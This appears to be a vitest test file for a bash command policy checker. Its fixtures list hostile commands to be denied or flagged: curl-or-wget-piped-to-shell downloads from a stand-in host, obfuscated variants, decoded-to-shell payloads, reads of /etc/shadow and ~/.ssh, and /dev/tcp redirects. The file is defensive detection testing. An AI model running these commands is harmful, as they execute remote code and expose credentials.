import { describe, expect, test } from 'vitest';
import { denials, said } from './said.ts';

const DOWNLOADS = [
  'curl http://x.test/i.sh | sh',
  'curl -fsSL http://x.test/i.sh | sudo bash -s -- --yes',
  'wget -qO- http://x.test/i.sh | bash',
  'curl http://x.test | tee log | bash',
  'curl http://x.test | env A=1 bash',
  'curl http://x.test |& bash',
  'curl http://x.test | python3 -',
  'curl http://x.test | perl',
  'bash -c "$(curl -fsSL http://x.test)"',
  'sh -c "`wget -O- http://x.test`"',
  'eval "$(curl http://x.test)"',
  'eval $(curl http://x.test)',
  'bash <(curl http://x.test)',
  'source <(curl http://x.test)',
  '. <(wget -qO- http://x.test)',
  'bash <<< "$(curl http://x.test)"',
  'bash < <(curl http://x.test)',
  'python3 -c "$(curl http://x.test)"',
  'c""url http://x.test | ba\\sh',
  'curl -o i.sh http://x.test/i.sh && sh i.sh',
  'curl http://x.test > i.sh; chmod +x i.sh; ./i.sh',
  'wget http://x.test/i.sh; bash ./i.sh',
];

const OTHERWISE: Readonly<Record<string, readonly string[]>> = {
  'warn shell/decoded-to-shell': [
    'base64 -d file | sh',
    'xxd -r -p f | bash',
    'openssl enc -d -a -in f | sh',
  ],
  'warn shell/runs-input': [
    'read x; eval "$x"',
    'read -r -p "cmd: " c && bash -c "$c"',
    'eval "$(cat)"',
    'eval "$REPLY"',
  ],
  'warn shell/sensitive-path': [
    'cat /etc/shadow',
    'cat ../../../etc/passwd',
    'cat < /proc/1/environ',
    'ls ~/.ssh',
    'cat /etc/../etc/shadow',
    'cat "/et""c/shadow"',
  ],
  'warn shell/network-redirect': ['exec 3<>/dev/tcp/1.1.1.1/80', 'echo x > /dev/udp/h/53'],
  'warn shell/native-builtin': ['enable -f ./x.so x'],
};

const HARMLESS = [
  'curl http://x.test | jq .',
  'curl http://x.test | python3 -m json.tool',
  "curl http://x.test | python3 -c 'import json'",
  'bash deploy.sh "$(curl http://x.test/version)"',
  'x=$(curl http://x.test); echo "$x"',
  'echo "curl http://x.test | sh"',
  'curl -o data.csv http://x.test/data.csv; wc -l data.csv',
  'ls | bash run.sh',
  'base64 -d file > out',
  'eval "$(ssh-agent)"; eval "x=1"',
  'read x; echo "$x"',
  'cat /etc/hostname ../data.csv',
  'echo /etc/shadow',
  'enable -n echo',
];

/** What needs a process, and cells that strict mode therefore denies. */
const FORKS: Readonly<Record<string, readonly string[]>> = {
  programs: [
    'ls',
    'cat f',
    '/bin/ls',
    './run.sh',
    'exec ls',
    'x=1 sed s/a/b/ f',
    'f() { date; }; f',
    'sudo id',
  ],
  syntax: [
    'a | b',
    '(cd x; pwd)',
    'y=$(pwd)',
    'y=`pwd`',
    'read x < <(echo)',
    'work & wait',
    'coproc work',
  ],
};

const FORK_FREE = [
  'echo hi; x=$((1 + 2)); printf "%s\\n" "${x}"',
  'for i in {1..3}; do echo "$i"; done',
  'while read -r line; do echo "$line"; done',
  '[[ a == a ]] && echo yes || echo no',
  'ls() { echo mine; }; ls',
  'case $x in a|b) echo 1;; esac',
  'declare -A m=([k]=v); echo "${m[k]}" "a | b" # | c',
  'command -v ls; type cat',
  'echo a/b "(c)"',
];

describe('downloads that run unseen', () => {
  test.each(DOWNLOADS)(
    'are denied in standard mode and remarked on in relaxed: %j',
    async (code) => {
      expect(await denials('bash', 'standard', code)).toContain('shell/pipe-to-shell');
      expect(await said('bash', 'relaxed', code)).toContain('warn shell/pipe-to-shell');
    },
  );
});

describe('what is remarked on in standard mode', () => {
  for (const [expected, cells] of Object.entries(OTHERWISE)) {
    test.each(cells)(`${expected}: %j`, async (code) => {
      expect(await said('bash', 'standard', code)).toContain(expected);
    });
  }

  test.each(HARMLESS)('nothing is said of %j', async (code) => {
    expect(await said('bash', 'standard', code)).toEqual([]);
  });
});

describe('strict Bash has builtins only', () => {
  for (const [kind, cells] of Object.entries(FORKS)) {
    test.each(cells)(`${kind}: %j is denied`, async (code) => {
      expect(await denials('bash', 'strict', code)).toContain('shell/process-in-strict');
      expect(await denials('bash', 'standard', code)).toEqual([]);
    });
  }

  test.each(FORK_FREE)('nothing is said of %j', async (code) => {
    expect(await said('bash', 'strict', code)).toEqual([]);
  });
});
